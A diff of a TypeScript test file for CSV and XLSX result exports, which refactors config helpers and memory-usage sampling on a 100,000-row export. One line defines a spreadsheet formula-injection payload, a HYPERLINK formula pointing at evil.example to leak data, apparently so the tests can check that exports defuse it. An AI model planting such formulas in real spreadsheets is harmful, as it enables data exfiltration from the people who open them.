@@ -15,7 +15,7 @@ import { maskNumber } from '../../src/domain/contact.ts';
 import { RESULT_CODES } from '../../src/domain/result-codes.ts';
 import { customers, engineHarness, type EngineHarness } from '../helpers/engine.ts';
 import { tenantWithKey } from '../helpers/app.ts';
-import { fullTaskConfig } from '../helpers/world.ts';
+import { IN_ORDER, WORKDAY, fullTaskConfig } from '../helpers/world.ts';
 import { dbKind } from '../helpers/db.ts';
 
 type Row = Record<string, string>;
@@ -29,14 +29,9 @@ const HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click me")';
 /** Five customers on the real engine: c0001 always busy (called 3 times), the rest answered. */
 const config = fullTaskConfig({
   name: 'Export check',
-  schedule: {
-    regular: [{ start: '09:00', end: '18:00' }],
-    specialDates: [],
-    specialPeriods: [],
-    allocations: { enabled: false, entries: [] },
-  },
+  schedule: WORKDAY,
   strategy: { maxRingSec: 20, intervalSec: 3, callsPerInterval: 3 },
-  callStrategy: { order: { by: 'none' }, numberRounds: { mode: 'sequence' } },
+  callStrategy: IN_ORDER,
   businessResultPolicy: [],
 });
 
@@ -481,49 +476,45 @@ describe(`result exports (${dbKind})`, () => {
       from generate_series(1, 100000) g`.execute(db);
       await sql`analyze contacts`.execute(db);
       const exportsUrl = `/api/v1/tenants/acme/tasks/${big}/exports`;
-      const run = async (format: string, sample: () => void, everyMs: number) => {
+      const MiB = 2 ** 20;
+      /**
+       * Writes one export while sampling, every `everyMs`, what stays live after a full
+       * collection: the export's status and how far the live heap rose above where it started.
+       */
+      const livePeak = async (format: 'csv' | 'xlsx', everyMs: number) => {
+        gc();
+        const start = process.memoryUsage().heapUsed;
+        let peak = start;
+        const sample = () => (gc(), (peak = Math.max(peak, process.memoryUsage().heapUsed)));
         const r = await h.call(h.key, { method: 'POST', url: exportsUrl, payload: { format } });
         const sampler = setInterval(sample, everyMs);
         worker.wakeAt();
         await h.sched.runUntil(h.sched.now());
         clearInterval(sampler);
         sample();
-        return (await h.call(h.key, { method: 'GET', url: `${exportsUrl}/${r.body.id}` })).body;
+        const done = (await h.call(h.key, { method: 'GET', url: `${exportsUrl}/${r.body.id}` }))
+          .body;
+        return { done, rise: peak - start };
       };
-      const MiB = 2 ** 20;
       const t1 = Date.now();
 
       // CSV, then XLSX: what stays live after a full collection, sampled while the file is written:
       // one batch, not the task (100,000 rows of objects would be well over 100 MiB). Resident
       // memory, garbage included, was the CSV's bound before: it varied with what earlier files of
       // the worker left and when the collector ran (+270 MiB once on PostgreSQL against 256).
-      gc();
-      const csv0 = process.memoryUsage().heapUsed;
-      let csvLive = csv0;
-      const csv = await run(
-        'csv',
-        () => (gc(), (csvLive = Math.max(csvLive, process.memoryUsage().heapUsed))),
-        250,
-      );
+      const { done: csv, rise: csvRise } = await livePeak('csv', 250);
       const t2 = Date.now();
       expect([csv.state, csv.rows]).toEqual(['done', 100_000]);
       await checkRows(big, path.join(dir, `${csv.id}.csv`));
       const t3 = Date.now();
 
-      gc();
-      const live0 = process.memoryUsage().heapUsed;
-      let live = live0;
       // Samples are sparse: a full collection every few milliseconds would slow the export tenfold.
-      const xlsx = await run(
-        'xlsx',
-        () => (gc(), (live = Math.max(live, process.memoryUsage().heapUsed))),
-        1000,
-      );
+      const { done: xlsx, rise: xlsxRise } = await livePeak('xlsx', 1000);
       expect([xlsx.state, xlsx.rows]).toEqual(['done', 100_000]);
       const t4 = Date.now();
-      const report = `insert ${t1 - t0} ms, csv ${t2 - t1} ms (${(csv.bytes / MiB).toFixed(1)} MiB, live heap +${((csvLive - csv0) / MiB).toFixed(1)} MiB), check ${t3 - t2} ms, xlsx ${t4 - t3} ms (${(xlsx.bytes / MiB).toFixed(1)} MiB, live heap +${((live - live0) / MiB).toFixed(1)} MiB)`;
-      expect(csvLive - csv0, report).toBeLessThan(24 * MiB);
-      expect(live - live0, report).toBeLessThan(24 * MiB);
+      const report = `insert ${t1 - t0} ms, csv ${t2 - t1} ms (${(csv.bytes / MiB).toFixed(1)} MiB, live heap +${(csvRise / MiB).toFixed(1)} MiB), check ${t3 - t2} ms, xlsx ${t4 - t3} ms (${(xlsx.bytes / MiB).toFixed(1)} MiB, live heap +${(xlsxRise / MiB).toFixed(1)} MiB)`;
+      expect(csvRise, report).toBeLessThan(24 * MiB);
+      expect(xlsxRise, report).toBeLessThan(24 * MiB);
     },
   );
 
